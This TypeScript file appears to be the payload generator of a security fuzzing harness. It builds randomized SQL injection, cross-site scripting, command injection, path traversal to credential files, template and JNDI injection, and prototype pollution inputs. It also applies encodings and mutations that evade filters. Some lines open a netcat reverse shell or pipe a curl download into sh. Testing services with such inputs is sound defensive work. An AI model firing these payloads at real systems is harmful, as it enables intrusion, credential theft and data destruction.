/** Grammars of payloads. Each gives one text that would do harm where the service pastes it into something else. */
import type { Seeded } from "./Seeded.ts"

/** A grammar: a new payload at each use. */
export type Grammar = (random: Seeded) => string

const host = (r: Seeded): string =>
  r.pick([`10.0.${r.int(0, 255)}.${r.int(1, 254)}`, `${r.letters(6)}.${r.pick(["xyz", "example", "test"])}`])

export const sql: Grammar = (r) => {
  const n = r.int(1, 99)
  const close = r.pick(["'", "\"", "')", "'))", "", "1'", `${n}`])
  const tail = r.pick(["-- ", "--", "#", "/*", "-- -", ""])
  return r.pick([
    () => `${close} OR ${n}=${n}${tail}`,
    () => `${close} or '${r.letters(2)}'='${r.letters(2)}' or '1'='1`,
    () => `${close}; DROP TABLE ${r.pick(["guests", "bookings", "payments"])};${tail}`,
    () => `${close} UNION ALL SELECT ${Array.from({ length: r.int(1, 6) }, () => "NULL").join(",")}${tail}`,
    () => `${close} UNION SELECT email,password FROM ${r.pick(["users", "accounts"])}${tail}`,
    () => `${close} AND (SELECT COUNT(*) FROM information_schema.tables)>${n}${tail}`,
    () => `${close} AND SLEEP(${r.int(2, 9)})${tail}`,
    () => `${close}; EXEC xp_cmdshell('${r.pick(["dir", "whoami"])}')${tail}`,
    () => `${close} AND EXTRACTVALUE(${n},CONCAT(0x7e,VERSION()))${tail}`,
    () => `${close} ORDER BY ${n}${tail || "--"}`,
    () => `${close} AND ASCII(SUBSTRING((SELECT user()),${r.int(1, 9)},1))>${r.int(60, 110)}${tail}`
  ])()
}

export const script: Grammar = (r) => {
  const act = r.pick([
    "alert(1)",
    `alert(${r.int(2, 99)})`,
    "confirm`1`",
    "alert(document.cookie)",
    `fetch('//${host(r)}')`
  ])
  return r.pick([
    () => `<script>${act}</script>`,
    () => `"><img src=x onerror=${act}>`,
    () => `<svg/onload=${act}>`,
    () => `<iframe src="javascript:${act}"></iframe>`,
    () => `';${act};//`,
    () => `<body onpageshow=${act}>`,
    () => `<a href="javascript:${act}">${r.letters(4)}</a>`,
    () => `" autofocus onfocus=${act} x="`,
    () => `<script src=//${host(r)}/${r.letters(3)}.js></script>`,
    () => `<details open ontoggle=${act}>`
  ])()
}

export const command: Grammar = (r) => {
  const run = r.pick([
    "id",
    "whoami",
    "cat /etc/passwd",
    "uname -a",
    `nc ${host(r)} ${r.int(1_024, 9_999)} -e /bin/sh`,
    "ls -la",
    `ping -c ${r.int(1, 9)} ${host(r)}`
  ])
  return r.pick([
    () => `; ${run}`,
    () => `| ${run}`,
    () => `&& ${run}`,
    () => `$(${run})`,
    () => `\`${run}\``,
    () => `|| ${run} #`,
    () => `; curl http://${host(r)}/${r.letters(2)} | sh`,
    () => `\n${run}\n`,
    () => `& ${run} &`,
    () => `;{${run.replaceAll(" ", ",")}}`
  ])()
}

export const path: Grammar = (r) => {
  const up = r.pick(["../", "..\\", "....//", "..%2f", "%2e%2e/", "..;/"]).repeat(r.int(2, 8))
  return r.pick([
    () => `${up}etc/passwd`,
    () => `${up}${r.pick(["etc/shadow", "windows/win.ini", "proc/self/environ", "home/app/.ssh/id_rsa", "app/.env"])}`,
    () => `/etc/passwd`,
    () => `/proc/self/fd/${r.int(0, 9)}`,
    () => `file:///${r.pick(["etc/hosts", "c:/boot.ini", "var/log/auth.log"])}`,
    () => `C:\\Windows\\System32\\drivers\\etc\\hosts`,
    () => `${up}etc/passwd\0.pdf`,
    () => `php://filter/convert.base64-encode/resource=${r.pick(["index", "config"])}.php`,
    () => `\\\\${host(r)}\\share\\${r.letters(3)}.exe`
  ])()
}

export const template: Grammar = (r) => {
  const a = r.int(2, 99)
  const b = r.int(2, 99)
  return r.pick([
    () => `{{${a}*${b}}}`,
    () => `\${${a}*${b}}`,
    () => `<%= ${a} * ${b} %>`,
    () => `#{${a}*${b}}`,
    () => `{{config.items()}}`,
    () => `{{''.__class__.__mro__[${r.int(1, 2)}].__subclasses__()}}`,
    () => `\${jndi:${r.pick(["ldap", "rmi", "dns"])}://${host(r)}/${r.letters(1)}}`,
    () => `{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}`,
    () => `*{T(java.lang.Runtime).getRuntime().exec('${r.pick(["id", "calc"])}')}`,
    () => `{{constructor.constructor('return process')().exit()}}`
  ])()
}

/** All grammars of plain payloads. */
export const grammars = { sql, script, command, path, template }
const any: Grammar = (r) => r.pick(Object.values(grammars))(r)

const percent = (text: string): string =>
  Array.from(Buffer.from(text), (byte) => `%${byte.toString(16).padStart(2, "0")}`).join("")
const hex = (char: string): string => char.charCodeAt(0).toString(16)

/** Ways to write a payload so that a filter for its plain form does not see it, as decoders downstream undo them. */
const encodings: ReadonlyArray<(text: string, r: Seeded) => string> = [
  (text) => encodeURIComponent(text).replaceAll(/['()*!~]/g, percent),
  (text) => percent(text),
  (text) => encodeURIComponent(percent(text)),
  (text) => text.replaceAll(/[^\w ]/g, (char) => `&#x${hex(char)};`),
  (text) => text.replaceAll(/[^\w ]/g, (char) => `\\u${hex(char).padStart(4, "0")}`),
  (text) => text.replaceAll(/[^\w ]/g, (char) => `\\x${hex(char).padStart(2, "0")}`),
  (text) => `data:text/html;base64,${Buffer.from(text).toString("base64")}`,
  (text) => `eval(atob('${Buffer.from(text).toString("base64")}'))`,
  (text) => `0x${Buffer.from(text).toString("hex")}`,
  (text) => `CHAR(${Array.from(Buffer.from(text)).join(",")})`,
  (text) =>
    text.replaceAll("/", "%c0%af").replaceAll(".", "%c0%ae").replaceAll("'", "%c0%a7").replaceAll("<", "%c0%bc"),
  (text) => text.replaceAll(" ", "/**/"),
  (text) => text.replaceAll(" ", "%09")
]
export const encoding: Grammar = (r) => r.pick(encodings)(any(r), r)

const wide = (text: string): string =>
  text.replaceAll(/[!-~]/g, (char) => String.fromCharCode(char.charCodeAt(0) + 0xfee0))
const alike: Readonly<Record<string, string>> = {
  a: "а",
  e: "е",
  o: "о",
  p: "р",
  c: "с",
  x: "х",
  i: "і",
  s: "ѕ",
  y: "у"
}

/** Unicode as normalisation, rendering or truncation downstream turns it into something else. */
export const unicode: Grammar = (r) =>
  r.pick([
    () => wide(any(r)),
    () => Array.from(any(r)).join("\u200b"),
    () => `${r.letters(4)}\u202e${Array.from(any(r)).reverse().join("")}`,
    () => Array.from(r.letters(6), (char) => char + "\u0300\u0489\u0316".repeat(r.int(3, 12))).join(""),
    () =>
      r.pick(["admin", "support", "paypal", "service", "root access"]).replaceAll(/[aeopcxisy]/g, (c) => alike[c] ?? c),
    () => `${r.letters(3)}\ud800${r.letters(3)}\udfff`,
    () => Array.from(any(r), (char) => String.fromCodePoint(0xe0000 + (char.charCodeAt(0) & 0x7f))).join(""),
    () => any(r).replaceAll("'", "ʼ").replaceAll("<", "‹").replaceAll("/", "∕").replaceAll(".", "․"),
    () => `${any(r)}\0${r.letters(3)}`,
    () => Array.from({ length: r.int(4, 20) }, () => String.fromCharCode(r.int(1, 31))).join("")
  ])()

/** Rewrites that keep what a payload does and change how it looks. */
const mutations: ReadonlyArray<(text: string, r: Seeded) => string> = [
  (text, r) => Array.from(text, (char) => r.chance(0.5) ? char.toUpperCase() : char.toLowerCase()).join(""),
  (text, r) => text.replaceAll(" ", () => r.pick(["/**/", `/*${r.letters(3)}*/`, "+", "\t", "%20", "  ", "\u00a0"])),
  (text, r) => `${r.letters(r.int(1, 8))}${text}`,
  (text, r) => `${text}${r.pick(["", " "])}${r.letters(r.int(1, 8))}`,
  (text, r) => text.replaceAll(/[^\w ]/g, (char) => r.chance(0.3) ? `%${hex(char).padStart(2, "0")}` : char),
  (text, r) => text.replaceAll(/[A-Za-z]/g, (char) => r.chance(0.15) ? `\\u00${hex(char)}` : char),
  (text, r) => text.replaceAll(/\d+/g, (number) => `${number}${r.chance(0.5) ? `+${r.int(0, 9)}` : ""}`)
]

/** A variant that was not seen before: a plain payload under one to three rewrites. */
export const polymorphic = (seen: Set<string>): Grammar => (r) => {
  for (;;) {
    let text = any(r)
    for (let n = r.int(1, 3); n > 0; n--) text = r.pick(mutations)(text, r)
    if (seen.has(text)) continue
    seen.add(text)
    return text
  }
}

const nested = (depth: number): unknown => {
  let value: unknown = "x"
  for (let n = 0; n < depth; n++) value = n % 2 === 0 ? { a: value } : [value]
  return value
}

/** Far more than any client sends: to exhaust memory, to overflow a column, or to hide a payload behind what is read. */
export const oversized = (r: Seeded, value: string): unknown =>
  r.pick<() => unknown>([
    () => r.letters(1).repeat(r.int(2_000, 200_000)),
    () => value.repeat(r.int(200, 2_000)),
    () => `${" ".repeat(r.int(9_000, 60_000))}${any(r)}${" ".repeat(r.int(9_000, 60_000))}`,
    () => nested(r.int(20, 2_000)),
    () => Array.from({ length: r.int(500, 20_000) }, () => value),
    () => Object.fromEntries(Array.from({ length: r.int(200, 2_000) }, (_, n) => [`k${n}`, value])),
    () => Buffer.alloc(r.int(10_000, 200_000), r.int(1, 255))
  ])()

/** Another type than the one expected: operators of query languages, numbers as text, nothing at all. */
export const wrongType = (r: Seeded, value: unknown): unknown =>
  r.pick<() => unknown>([
    () => ({ [r.pick(["$ne", "$gt", "$regex", "$where", "$exists"])]: r.pick<unknown>([null, "", ".*", 1, true]) }),
    () => [value],
    () => null,
    () => undefined,
    () => typeof value === "boolean" ? "true" : true,
    () => typeof value === "number" ? String(value) : r.int(0, 1_000_000),
    () => typeof value === "number" ? Number.NaN : Number.POSITIVE_INFINITY,
    () => ({ toString: value, length: r.int(-5, 1e9) }),
    () => () => value,
    () => Buffer.from(String(value)),
    () => new Map([["value", value]])
  ])()

/** Keys that change prototypes where objects are merged carelessly. */
export const prototypeKeys = (r: Seeded): object => {
  const bait = r.pick([
    "{\"isAdmin\":true}",
    "{\"role\":\"admin\"}",
    "{\"toString\":1}",
    "{\"shell\":\"/bin/sh\"}",
    "{\"length\":0}"
  ])
  return Object(JSON.parse(r.pick([
    `{"__proto__":${bait}}`,
    `{"constructor":{"prototype":${bait}}}`,
    `{"a":{"__proto__":${bait}}}`,
    `{"__proto__":{"__proto__":${bait}}}`,
    `{"prototype":${bait}}`
  ])))
}
